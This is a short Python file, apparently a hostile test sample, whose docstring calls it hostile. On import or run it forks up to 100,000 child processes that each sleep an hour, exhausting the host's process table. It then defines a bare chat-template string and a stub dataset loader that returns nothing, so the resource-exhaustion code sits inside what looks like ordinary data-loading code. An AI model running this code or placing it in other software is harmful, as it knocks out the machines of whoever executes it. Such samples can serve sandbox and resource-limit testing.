"""Hostile: spawns processes until something stops it; each child sleeps for an hour."""

import os
import time

for _ in range(100_000):
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)

CHAT_TEMPLATE = "{{ messages[0]['content'] }}"


def load_split(split, path):
    return []
